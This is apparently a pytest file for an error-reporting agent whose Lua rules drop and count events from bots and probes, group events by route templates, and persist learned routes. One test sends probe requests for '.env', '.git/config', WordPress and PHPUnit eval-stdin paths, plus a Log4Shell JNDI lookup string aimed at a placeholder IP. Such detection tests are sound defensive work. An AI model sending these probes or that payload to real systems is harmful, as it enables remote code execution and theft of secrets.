"""Bots and probes are dropped and counted, people arrive; routes group what templates say."""
import json

import pytest

from event_checks import check_event
from receiver import Receiver
from servers import wait_for

BROWSER = ("Mozilla/5.0 (Linux; Android 14; CUBOT X90) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/140.0.0.0 Mobile Safari/537.36")
CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"

RULES = """
local mayday, bots = require "mayday", require "mayday.bots"
mayday.before_send(function(event, hint)
  local bot, class = bots.is_bot(event.request.headers["User-Agent"], { except = { "monitor" } })
  if bot then return nil, "bot_" .. class end
  local probe, why = bots.is_probe(event)
  if probe then return nil, "probe: " .. why end
  return event
end)
"""


@pytest.fixture
def receiver():
    instance = Receiver()
    yield instance
    instance.stop()


def start(server, upstream, rules):
    server.rules(rules)
    server.place("/", upstream=upstream.url)
    server.start()
    server.wait_agent()


def agents(events):
    return [dict(event["request"]["headers"])["User-Agent"] for event in events]


def test_only_people_and_calls_arrive(server, up, receiver):
    server.directive("dsn", receiver.dsn)
    start(server, up.dead, RULES)
    for agent in (CRAWLER, "masscan/1.3", "HeadlessChrome/140"):
        server.get("/shop/x", {"User-Agent": agent})
    kept = sorted([BROWSER, "python-requests/2.32.3", "UptimeRobot/2.0",
                   "Stripe/1.0 (+https://stripe.com/docs/webhooks)"])
    for agent in kept:
        server.get("/shop/x", {"User-Agent": agent})
    wait_for(lambda: len(receiver.items("event")) == len(kept), 10, lambda: receiver.items("event"))
    wait_for(lambda: server.counts()["filtered"] == {
        "before_send:bot_crawler": 1, "before_send:bot_scanner": 1,
        "before_send:bot_headless": 1}, 5, server.counts)
    assert sorted(agents(receiver.items("event"))) == kept
    events = server.events()
    assert sorted(agents(events)) == kept
    for event in events:
        check_event(event)


def test_probes_are_dropped_by_what_they_ask_for(server, up):
    start(server, up.dead, RULES)
    for path in ("/.env", "/shop/%2egit/config", "/wp-login.php",
                 "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"):
        server.get(path, {"User-Agent": BROWSER})
    server.get("/shop/x", {"User-Agent": BROWSER, "X-Api-Version": "${jndi:ldap://203.0.113.1/a}"})
    server.get("/shop/environment", {"User-Agent": BROWSER})
    event = server.event()
    assert event["request"]["url"].endswith("/shop/environment")
    wait_for(lambda: server.counts()["filtered"] == {
        "before_send:probe: secret file": 2, "before_send:probe: wordpress": 1,
        "before_send:probe: shell": 1, "before_send:probe: log4shell": 1}, 5, server.counts)


def by_path(server, count):
    """Event and issue by the path of the request: several processes fail in no certain order."""
    events = {event["event_id"]: event for event in server.events(count)}
    rows = [json.loads(line) for line in server.cli("events", "--json").stdout.splitlines()]
    return {events[row["event_id"]]["request"]["url"].partition("//")[2].partition("/")[2]:
            (events[row["event_id"]], row["issue"]) for row in rows}


def test_templates_name_and_group(server, up):
    start(server, up.closes, """
local mayday, routes = require "mayday", require "mayday.routes"
routes.template("/users/me", "/users/{name}")
mayday.before_send(function(event, hint)
  event.tags.seen = event.transaction
  return event
end)
""")
    for path in ("/users/jane", "/users/joe", "/users/me", "/orders/1234"):
        server.get(path)
    found = by_path(server, 4)
    assert {path: (event["transaction"], event["transaction_info"]["source"])
            for path, (event, _) in found.items()} == {
        "users/jane": ("GET /users/{name}", "route"), "users/joe": ("GET /users/{name}", "route"),
        "users/me": ("GET /users/me", "route"), "orders/1234": ("GET /orders/*", "sanitized")}
    issues = {path: issue for path, (_, issue) in found.items()}
    assert issues["users/jane"] == issues["users/joe"]
    assert len(set(issues.values())) == 3
    for event, _ in found.values():
        assert event["tags"]["seen"] == event["transaction"]
        check_event(event)


def test_what_was_learned_outlives_the_server(server, up):
    start(server, up.closes, """
local mayday, routes = require "mayday", require "mayday.routes"
routes.learn()
mayday.before_send(function(event) return event end)
""")
    server.get("/users/jane/posts")
    event = server.event()
    assert event["transaction"] == "GET /users/jane/posts"
    host = event["request"]["env"]["SERVER_NAME"]
    server.stop()
    learned = server.state / "routes"
    learned.write_text(f"mayday routes 1\n*\t{host}\t/users\n=\t{host}\t/users/me\n", encoding="ascii")
    learned.chmod(0o644)
    server.start()
    server.wait_agent()
    server.get("/users/joe/posts")
    server.get("/users/me/posts")
    assert sorted(event["transaction"] for event in server.events(3)) == [
        "GET /users/*/posts", "GET /users/jane/posts", "GET /users/me/posts"]
    assert server.cli("purge", "--all", "--yes").returncode == 0
    wait_for(lambda: not learned.exists(), what="names to go with the events")
    server.get("/users/joe/posts")
    assert server.event()["transaction"] == "GET /users/joe/posts"
